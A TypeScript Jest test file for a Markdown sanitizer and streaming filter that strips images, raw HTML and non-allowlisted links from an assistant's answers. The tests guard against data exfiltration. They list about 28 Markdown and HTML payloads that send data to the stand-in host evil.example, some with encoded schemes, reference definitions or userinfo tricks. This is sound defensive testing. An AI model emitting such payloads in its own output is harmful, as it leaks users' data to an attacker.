import { sanitizeAnswer, urlsIn } from './output-safety.js';
import { BREAK, SafeMarkdownStream } from './safe-markdown-stream.js';

const policy = { sourceUrls: urlsIn(['See https://docs.example.com/tides for tables.']), allowedHosts: ['quire.dev'] };

describe('sanitizeAnswer', () => {
  test('drops images, keeps allowed links, unwraps the rest', () => {
    const out = sanitizeAnswer(
      'Tide at 5pm [1]. ![x](https://evil.example/?q=secret) [tables](https://docs.example.com/tides) [click](https://evil.example/p) [home](https://www.quire.dev/a) <img src="https://evil.example/i.png"> https://evil.example/raw <https://evil.example/auto>',
      policy,
    );
    expect(out).not.toContain('evil.example');
    expect(out).toContain('[tables](https://docs.example.com/tides)');
    expect(out).toContain('[home](https://www.quire.dev/a)');
    expect(out).toContain('click');
    expect(out).toContain('Tide at 5pm [1].');
  });

  test('reference-style images and definitions go too', () => {
    expect(sanitizeAnswer('a ![x][r]\n[r]: https://evil.example/?q=1\nb', policy)).not.toContain('evil');
  });
});

describe('SafeMarkdownStream', () => {
  test('an image split across deltas never leaks a piece of its URL', () => {
    const s = new SafeMarkdownStream(policy);
    const pieces = ['The answer [1]. !', '[x](https://ev', 'il.example/?q=sec', 'ret) and [more](https://docs.example.com/tides', ') done. https://evil', '.example/z end'];
    let out = '';
    for (const p of pieces) {
      const released = s.push(p);
      expect(released).not.toMatch(/evil|https:\/\/ev/);
      out += released;
    }
    out += s.flush();
    expect(out).not.toContain('evil');
    expect(out).toContain('[more](https://docs.example.com/tides)');
    expect(out).toContain('The answer [1].');
  });
});

/** Valid CommonMark/GFM or raw HTML that would render a link or image to evil.example with data in it. */
const EXFIL: string[] = [
  '![a[b]c](https://evil.example/p.png?d=1)',
  "[x](https://evil.example/?d=1 'title')",
  '[x](https://evil.example/?d=1 (title))',
  '[x](<https://evil.example/?d=1 x>)',
  '(https://evil.example/?d=1)',
  '<https://evil.example/?d=1>',
  '[x](//evil.example/?d=1)',
  '[x](https&#58;//evil.example/?d=1)',
  '[x](&#104;ttps://evil.example/?d=1)',
  '[x](https\\://evil.example/?d=1)',
  '[x](https:&#47;&#47;evil.example/?d=1)',
  'www.evil.example/?d=1',
  '_www.evil.example/?d=1_',
  '[x](https://docs.example.com@evil.example/?d=1)',
  '[x](https://quire.dev.evil.example/?d=1)',
  '[x][r]\n\n[r]: https://evil.example/?d=1',
  '> [x][r]\n> [r]:\n>   <https://evil.example/?d=1>',
  '![x][r]\n\n- [r]: https://evil.example/?d=1',
  '<input type=image src=//evil.example/?d=1>',
  '<img\nsrc="https://evil.example/?d=1">',
  '<a href="//evil.example/?d=1">x</a>',
  '<a href="https&#58;//evil.example/?d=1">x</a>',
  '<div style="background:url(//evil.example/?d=1)">x</div>',
  '<!-- x --><img src=//evil.example/?d=1>',
  '[ok](https://quire.dev/a)[x](https://evil.example/?d=1)',
  'https://docs.example.com/tides)[x](https://evil.example/?d=1)',
  '[x](https://evil.example/?d=1 "https://quire.dev/")',
  'mailto:a@evil.example?body=1',
];

/** Whether a renderer could still see raw HTML, an image, or a link to evil.example in the text. */
function leaks(out: string): string | null {
  if (/evil/i.test(out)) return 'a URL to evil.example';
  if (/(?<!\\)(?:\\\\)*<[A-Za-z/!?]/.test(out)) return 'raw HTML';
  if (/(?<!\\)(?:\\\\)*!\[[^\]]*\]\s*[([]/.test(out)) return 'an image';
  return null;
}

describe('sanitizeAnswer: whatever the Markdown form', () => {
  test.each(EXFIL)('%j leaves no image, raw HTML or outside link', (payload) => {
    const out = sanitizeAnswer(`Tide at 5pm [1]. ${payload} End.`, policy);
    expect(leaks(out)).toBeNull();
    expect(out).toContain('Tide at 5pm [1].');
    expect(out).toContain('End.');
  });

  test('links to source URLs and allowed hosts keep working in every form', () => {
    const kept = [
      '[tables](https://docs.example.com/tides)',
      '[home](https://www.quire.dev/a "Quire")',
      '[home](<https://quire.dev/a>)',
      '<https://quire.dev/a>',
      'https://docs.example.com/tides',
      'see https://sub.quire.dev/x?y=1.',
    ];
    for (const k of kept) expect(sanitizeAnswer(`A [1]. ${k} B`, policy)).toBe(`A [1]. ${k} B`);
  });

  test('a source URL is kept only as a whole URL, not as the start of one to another host', () => {
    const bare = { sourceUrls: urlsIn(['Tables: https://docs.example.com.']), allowedHosts: [] };
    expect(sanitizeAnswer('see https://docs.example.com.', bare)).toBe('see https://docs.example.com.');
    expect(sanitizeAnswer('see https://docs.example.com@evil.example/?d=1', bare)).not.toContain('evil');
  });

  test('citation markers and ordinary text are left alone', () => {
    const text = 'Tides turn at 5pm [1], [2, 3]. Great![1] Use a < b and a > b; x [1]: y.';
    expect(sanitizeAnswer(text, policy)).toBe(text);
  });

  test('an image is dropped even when its URL is allowed', () => {
    expect(sanitizeAnswer('a ![t](https://quire.dev/i.png) b', policy)).toBe('a  b');
    expect(leaks(sanitizeAnswer('a [![t](https://quire.dev/i.png)](https://quire.dev/a) b', policy))).toBeNull();
  });
});

describe('SafeMarkdownStream: the same rules across delta boundaries', () => {
  test.each(EXFIL)('%j split anywhere, in two or three pieces, leaks nothing', (payload) => {
    const text = `Tide at 5pm [1]. ${payload} End.`;
    const run = (pieces: string[]) => {
      const s = new SafeMarkdownStream(policy);
      let out = pieces.map((p) => s.push(p)).join('');
      out += s.flush();
      return out;
    };
    for (let i = 1; i < text.length; i++) {
      const two = run([text.slice(0, i), text.slice(i)]);
      expect({ i, leak: leaks(two) }).toEqual({ i, leak: null });
      for (let j = i + 1; j < text.length; j += 3) {
        const three = run([text.slice(0, i), text.slice(i, j), text.slice(j)]);
        expect({ i, j, leak: leaks(three) }).toEqual({ i, j, leak: null });
      }
    }
  });

  test('allowed links and citations come through whole when split character by character', () => {
    const text = 'See [tables](https://docs.example.com/tides) and <https://quire.dev/a> [1]. Done.';
    const s = new SafeMarkdownStream(policy);
    const out = [...text].map((c) => s.push(c)).join('') + s.flush();
    expect(out).toBe(text);
  });

  test('a word longer than the hold limit is released with a break that no construct spans', () => {
    const s = new SafeMarkdownStream(policy);
    const long = `${'a'.repeat(2500)}!`;
    const out = s.push(long) + s.push('[x](https://quire.dev/i.png) done') + s.flush();
    expect(leaks(out)).toBeNull();
  });
});

test('pathological answers are sanitized quickly, streamed or not', () => {
  const inputs = [
    `[x](${' '.repeat(20_000)}`,
    '[x]('.repeat(5000),
    '](x'.repeat(7000),
    '!['.repeat(10_000),
    `${'\\'.repeat(20_000)}[x](y)`,
    `https://evil.example/${')'.repeat(20_000)}`,
    '<a'.repeat(10_000),
    `[${'['.repeat(5000)}${']'.repeat(5000)}](https://evil.example/)`,
    '//a'.repeat(7000),
  ];
  for (const input of inputs) {
    const start = performance.now();
    const out = sanitizeAnswer(input, policy);
    const stream = new SafeMarkdownStream(policy);
    const streamed = input.match(/[\s\S]{1,7}/g)!.map((p) => stream.push(p)).join('') + stream.flush();
    expect({ input: input.slice(0, 12), ms: performance.now() - start < 2000 }).toEqual({ input: input.slice(0, 12), ms: true });
    expect(leaks(out)).toBeNull();
    expect(leaks(streamed)).toBeNull();
  }
});

describe('SafeMarkdownStream pieces', () => {
  test('a piece cut at the hold limit carries the break as a flag, never in its text', () => {
    const s = new SafeMarkdownStream(policy);
    const piece = s.pushPiece(`[aside ${'word '.repeat(500)}`);
    expect(piece.breakAfter).toBe(true);
    expect(piece.text).not.toContain(BREAK);
    expect(piece.text.length).toBeGreaterThan(0);
    // `push` is what a client renders: the same text with the break after it.
    const rendered = new SafeMarkdownStream(policy).push(`[aside ${'word '.repeat(500)}`);
    expect(rendered).toBe(piece.text + BREAK);
  });
});

test('a reference named like an Object property is not decoded', () => {
  expect(sanitizeAnswer('a &constructor; b &toString; c &hasOwnProperty;', policy)).toBe('a &constructor; b &toString; c &hasOwnProperty;');
});

test('source URLs added to a policy after it was first used are kept too', () => {
  const p = { sourceUrls: new Set(['https://a.example/x']), allowedHosts: [] };
  expect(sanitizeAnswer('see https://a.example/x and https://b.example/y', p)).toBe(`see https://a.example/x and ${'[link removed]'}`);
  p.sourceUrls.add('https://b.example/y');
  expect(sanitizeAnswer('see https://a.example/x and https://b.example/y', p)).toBe('see https://a.example/x and https://b.example/y');
});
